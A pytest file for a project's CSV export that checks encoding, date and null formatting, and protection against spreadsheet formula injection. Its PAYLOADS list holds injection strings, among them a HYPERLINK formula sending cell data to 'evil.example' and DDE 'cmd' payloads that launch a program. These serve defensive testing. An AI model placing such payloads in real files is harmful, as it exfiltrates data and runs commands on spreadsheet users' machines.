"""Every CSV the project writes: formats, UTF-8, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import polars as pl
import pytest

from metrics.report.export import to_csv_text, write_csv


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+3.5",
    "-245",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_cells_that_a_spreadsheet_would_run_get_an_apostrophe(payload):
    frame = pl.DataFrame({"agency_name": [payload]})
    assert rows(to_csv_text(frame))[1] == ["'" + payload]


def test_categorical_and_enum_text_is_neutralised_too():
    frame = pl.DataFrame({"a": ["=x", "b"]}).with_columns(
        c=pl.col("a").cast(pl.Categorical), e=pl.col("a").cast(pl.Enum(["=x", "b"]))
    )
    assert rows(to_csv_text(frame))[1:] == [["'=x", "'=x", "'=x"], ["b", "b", "b"]]


def test_numeric_columns_keep_their_sign():
    frame = pl.DataFrame({"days_until_due": [-245, 3], "change": [-0.25, 1.5]})
    assert rows(to_csv_text(frame)) == [["days_until_due", "change"], ["-245", "-0.25"], ["3", "1.5"]]


def test_header_names_are_neutralised():
    frame = pl.DataFrame({"=cmd()": [1], "-x": [2], "ok": [3]})
    assert rows(to_csv_text(frame))[0] == ["'=cmd()", "'-x", "ok"]


def test_dates_booleans_and_nulls():
    frame = pl.DataFrame({
        "due_on": [date(2025, 1, 9), None],
        "at": [datetime(2025, 1, 9, 8, 30), None],
        "met": [True, None],
        "late": [False, None],
        "note": [None, ""],
        "n": [None, 1],
    })
    assert rows(to_csv_text(frame))[1:] == [
        ["2025-01-09", "2025-01-09 08:30:00", "true", "false", "", ""],
        ["", "", "", "", "", "1"],
    ]


def test_safe_values_round_trip_unchanged():
    frame = pl.DataFrame({
        "agency_id": ["A1", "00123", "x-1"],
        "agency_name": ['Alpha "Recovery"', "Beta, County", "Line\nbreak"],
        "count": [0, 12, 7],
        "rate": [0.5, 1.0, 0.125],
        "on": [date(2024, 2, 29), date(2024, 3, 1), date(2024, 12, 31)],
    })
    back = pl.read_csv(io.StringIO(to_csv_text(frame)), schema=frame.schema)
    assert back.equals(frame)


def test_utf8_with_non_ascii_names(tmp_path):
    frame = pl.DataFrame({"agency_name": ["Łódź Ñandú Recovery", "Menominee – Wāpahkīw"], "n": [1, 2]})
    path = tmp_path / "out" / "agencies.csv"
    write_csv(frame, path)
    raw = path.read_bytes()
    assert raw.startswith(b"agency_name,n\n")
    assert "Łódź Ñandú Recovery".encode() in raw
    assert rows(raw.decode("utf-8"))[1:] == [["Łódź Ñandú Recovery", "1"], ["Menominee – Wāpahkīw", "2"]]


def test_header_present_even_without_rows():
    frame = pl.DataFrame(schema={"agency_id": pl.String, "n": pl.Int64})
    assert to_csv_text(frame) == "agency_id,n\n"
